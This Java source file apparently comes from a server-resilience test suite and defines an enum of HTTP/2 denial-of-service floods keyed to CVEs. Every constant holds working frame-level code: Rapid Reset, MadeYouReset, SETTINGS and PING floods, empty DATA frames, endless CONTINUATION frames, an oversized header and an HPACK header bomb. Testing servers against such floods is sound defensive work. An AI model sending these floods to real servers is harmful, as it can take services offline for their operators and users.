package dev.touchstone.testing.attack;

import java.io.IOException;
import java.util.Arrays;
import java.util.Map;

/** What is sent without an end, until the other side ends the connection. */
enum Flood {
    /** Calls that are taken back at once (CVE-2023-44487). */
    RAPID_RESET(2_000) {
        @Override
        void once(RawConnection connection, String rpc, int turn) throws IOException {
            int stream = connection.beginCall(rpc, Map.of());
            connection.frame(RawConnection.RST_STREAM, 0, stream, CANCEL);
        }
    },
    /** Calls that the other side has to take back (CVE-2025-8671). */
    MADE_TO_RESET(2_000) {
        @Override
        void once(RawConnection connection, String rpc, int turn) throws IOException {
            int stream = connection.beginCall(rpc, Map.of());
            connection.frame(RawConnection.WINDOW_UPDATE, 0, stream, new byte[4]);
        }
    },
    /** Settings, each of which has to be acknowledged, by one who reads no acknowledgement (CVE-2019-9515). */
    SETTINGS(5_000_000) {
        @Override
        void once(RawConnection connection, String rpc, int turn) throws IOException {
            connection.frame(RawConnection.SETTINGS, 0, 0);
        }
    },
    /** Pings likewise (CVE-2019-9512). */
    PING(5_000_000) {
        @Override
        void once(RawConnection connection, String rpc, int turn) throws IOException {
            connection.frame(RawConnection.PING, 0, 0, new byte[8]);
        }
    },
    /** Frames of data with nothing in them (CVE-2019-9518). */
    EMPTY_DATA(1_000_000) {
        @Override
        void once(RawConnection connection, String rpc, int turn) throws IOException {
            if (turn == 0) {
                connection.beginCall(rpc, Map.of());
            }
            connection.frame(RawConnection.DATA, 0, 1);
        }
    },
    /** Headers that never end, in frames of a byte (CVE-2024-27316 and others). */
    CONTINUATION(1_000_000) {
        @Override
        void once(RawConnection connection, String rpc, int turn) throws IOException {
            connection.frame(turn == 0 ? RawConnection.HEADERS : RawConnection.CONTINUATION, 0, 1, new byte[] {0});
        }
    },
    /** One header of megabytes. */
    LARGE_HEADERS(1_000) {
        @Override
        void once(RawConnection connection, String rpc, int turn) throws IOException {
            byte[] part = new byte[16_384];
            Arrays.fill(part, (byte) 'a');
            if (turn == 0) {
                // A literal field: a name of one byte, and a value of sixteen megabytes.
                byte[] begin = {0, 1, 'x', 0x7F, (byte) 0x81, (byte) 0xFF, (byte) 0xFF, 7};
                System.arraycopy(begin, 0, part, 0, begin.length);
            }
            connection.frame(turn == 0 ? RawConnection.HEADERS : RawConnection.CONTINUATION, 0, 1, part);
        }
    },
    /** A header that is stored once and named thousands of times (CVE-2016-6581). */
    HEADER_BOMB(1_000) {
        @Override
        void once(RawConnection connection, String rpc, int turn) throws IOException {
            byte[] block = new byte[16_000];
            // A field that is stored: a name of one byte and a value of 4000; then what is stored, again and again.
            byte[] begin = {0x40, 1, 'x', 0x7F, (byte) 0xA1, 0x1E};
            Arrays.fill(block, (byte) 0xBE);
            System.arraycopy(begin, 0, block, 0, begin.length);
            Arrays.fill(block, begin.length, begin.length + 4000, (byte) 'a');
            connection.frame(
                    RawConnection.HEADERS, RawConnection.END_HEADERS | RawConnection.END_STREAM, 1 + 2 * turn, block);
        }
    };

    private static final byte[] CANCEL = {0, 0, 0, 8};

    private final int most;

    Flood(int most) {
        this.most = most;
    }

    /** How often at most; who has not ended the connection by then takes everything. */
    int most() {
        return most;
    }

    /** Whether the sender hears nothing of what is said to it. */
    boolean isDeaf() {
        return this == SETTINGS || this == PING;
    }

    abstract void once(RawConnection connection, String rpc, int turn) throws IOException;
}
